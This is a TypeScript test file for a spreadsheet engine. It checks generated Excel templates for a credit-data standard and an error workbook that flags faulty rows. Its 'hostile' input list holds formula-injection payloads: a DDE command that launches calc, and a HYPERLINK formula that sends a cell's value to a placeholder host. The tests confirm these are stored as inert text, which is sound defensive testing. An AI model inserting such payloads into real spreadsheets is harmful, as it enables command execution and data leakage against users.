import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import ExcelJS from 'exceljs'
import { afterAll, describe, expect, it, vi } from 'vitest'
import { mapColumns } from '@engine/sheets/column-mapping'
import { writeErrorWorkbook, type FaultyRow } from '@engine/sheets/error-workbook-writer'
import { openSheetFile } from '@engine/sheets/file-reader'
import { defaultSheetLimits } from '@engine/sheets/sheet-limits'
import { templateMarkOf } from '@engine/sheets/template-mark'
import { writeTemplate } from '@engine/sheets/template-writer'
import { loadStandard } from '@engine/standards/standard-loader'
import { readAll, readTexts, refusalOf } from '@test/fixtures/sheets/reading'
import { TemporaryFolder } from '@test/fixtures/sheets/temporary-file'

// Large files are made on machines that do other work too.
vi.setConfig({ testTimeout: 60_000 })

const folder = new TemporaryFolder()
afterAll(() => folder.remove())

const { pack } = loadStandard(
  resolve(import.meta.dirname, '../../../resources/standards/pingxiang-credit/2026.1'),
)
const open = async (path: string) => {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.readFile(path)
  return workbook
}

describe.each(pack.recordTypes.map((spec) => [spec.code, spec] as const))('template of %s', (code, spec) => {
  const path = join(folder.path, `${code}.xlsx`)
  const fields = spec.fields.filter(({ envelope }) => envelope !== true)

  it('is read back by our own reader: every column is recognised, the mark names type and version', async () => {
    await writeTemplate(pack, spec, path)
    const inspection = await (await openSheetFile({ path }, defaultSheetLimits)).inspect()
    expect(templateMarkOf(inspection)).toEqual({ standard: pack.id, version: pack.version, recordType: code })
    expect(inspection.warnings).toEqual([])
    const first = inspection.sheets[0]
    const mapping = mapColumns({ file: 'a', rows: first?.firstRows ?? [], spec })
    if (!mapping.ok) throw new Error(mapping.failure.code)
    expect(mapping.value.columns.map(({ field }) => field)).toEqual(fields.map((field) => field.code))
    expect(mapping.value).toMatchObject({ headerRow: 1, missing: [], duplicates: [], coverage: 1 })
  })

  it('is read by exceljs: text columns, frozen header, drop-downs from the code lists, help for every field', async () => {
    const workbook = await open(path)
    const [sheet, help] = workbook.worksheets
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    fields.forEach((field, index) => {
      const cell = sheet!.getCell(2, index + 1)
      expect(cell.numFmt, field.code).toBe('@')
      expect(sheet!.getCell(1, index + 1).text.startsWith('*'), field.code).toBe(field.required === 'always')
      const isList = field.codeList !== undefined && field.type !== 'multiCode'
      expect(cell.dataValidation?.type, field.code).toBe(isList ? 'list' : 'textLength')
      if (isList) {
        const [, column, from, to] = /\$([A-Z]+)\$(\d+):\$[A-Z]+\$(\d+)/.exec(
          String(cell.dataValidation.formulae[0]),
        )!
        const items = Array.from(
          { length: Number(to) - Number(from) + 1 },
          (_, at) => workbook.getWorksheet('_xinbao')!.getCell(`${column}${Number(from) + at}`).text,
        )
        expect(items).toEqual(pack.codeLists[field.codeList]?.items.map(({ label }) => label))
      }
    })
    expect(help?.rowCount).toBe(fields.length + 2)
    expect(workbook.getWorksheet('_xinbao')?.state).toBe('veryHidden')
  })
})

describe('error workbook', () => {
  const hostile = [
    '=1+1',
    "+cmd|'/c calc'!A1",
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '＝1+1',
    '=HYPERLINK("http://x/?"&A2,"a")',
    '_x0041_',
    '_x000D_',
    '440106199001011234',
    '2026-03-02',
  ]
  const rows: FaultyRow[] = [
    {
      row: 5,
      cells: hostile,
      problems: [
        { column: 1, field: '文书号', value: hostile[1]!, message: '文书号不对', remedy: '改成文书号' },
        { column: 1, field: '文书号', value: hostile[1]!, message: '太长', remedy: '' },
        { column: null, field: '', value: '', message: '缺少代码', remedy: '补上代码' },
      ],
    },
    {
      row: 9,
      cells: ['', '乙'],
      problems: [{ column: 0, field: '名称', value: '', message: '必填', remedy: '' }],
    },
  ]
  const headers = hostile.map((_, index) => `列${index + 1}`)
  const path = join(folder.path, 'errors.xlsx')

  it('I1 I2 holds the rows as text: no formula, nothing changed', async () => {
    expect(await writeErrorWorkbook({ title: '许可/错误', headers, rows }, path)).toBe(2)
    expect(await readTexts(path)).toEqual([headers, hostile, ['', '乙']])
    const { rows: read } = await readAll(path)
    expect(read.flatMap(({ cells }) => cells).every((cell) => cell === null || cell.kind === 'text')).toBe(
      true,
    )
    expect(readFileSync(path).includes('<f>')).toBe(false)
    const sheet = (await open(path)).worksheets[0]!
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()))
  })

  it('marks the bad cells and says why, in place and in a list', async () => {
    const workbook = await open(path)
    const [sheet, reasons] = workbook.worksheets
    expect(sheet?.name).toBe('许可 错误')
    expect(sheet?.getCell('B2').fill).toMatchObject({ pattern: 'solid', fgColor: { argb: 'FFFFC7CE' } })
    expect(sheet?.getCell('C2').fill).not.toMatchObject({ pattern: 'solid' })
    expect(JSON.stringify(sheet?.getCell('B2').note)).toContain('文书号不对')
    expect(JSON.stringify(sheet?.getCell('A2').note)).toContain('缺少代码')
    expect(sheet?.getCell('A3').fill).toMatchObject({ fgColor: { argb: 'FFFFC7CE' } })
    expect(
      reasons
        ?.getSheetValues()
        .slice(1)
        .map((values) => (values as string[]).slice(1)),
    ).toEqual([
      ['行', '列', '字段', '值', '问题', '怎么改'],
      ['5', 'B', '文书号', hostile[1], '文书号不对', '改成文书号'],
      ['5', 'B', '文书号', hostile[1], '太长'],
      expect.arrayContaining(['5', '整行', '缺少代码', '补上代码']),
      expect.arrayContaining(['9', 'A', '名称', '必填']),
    ])
  })

  it('leaves the old file when it cannot write', async () => {
    const target = join(folder.path, 'old.xlsx')
    writeFileSync(target, 'old')
    mkdirSync(`${target}.part`)
    const refusal = await refusalOf(writeErrorWorkbook({ title: 'a', headers: ['a'], rows: [] }, target))
    expect(refusal).toMatchObject({ code: 'output.not-writable', params: { file: 'old.xlsx' } })
    expect(readFileSync(target, 'utf8')).toBe('old')
    expect(
      (
        await refusalOf(
          writeErrorWorkbook({ title: 'a', headers: ['a'], rows: [] }, join(folder.path, '没有', 'a.xlsx')),
        )
      ).code,
    ).toBe('output.not-writable')
    expect(existsSync(join(folder.path, '没有'))).toBe(false)
  })
})
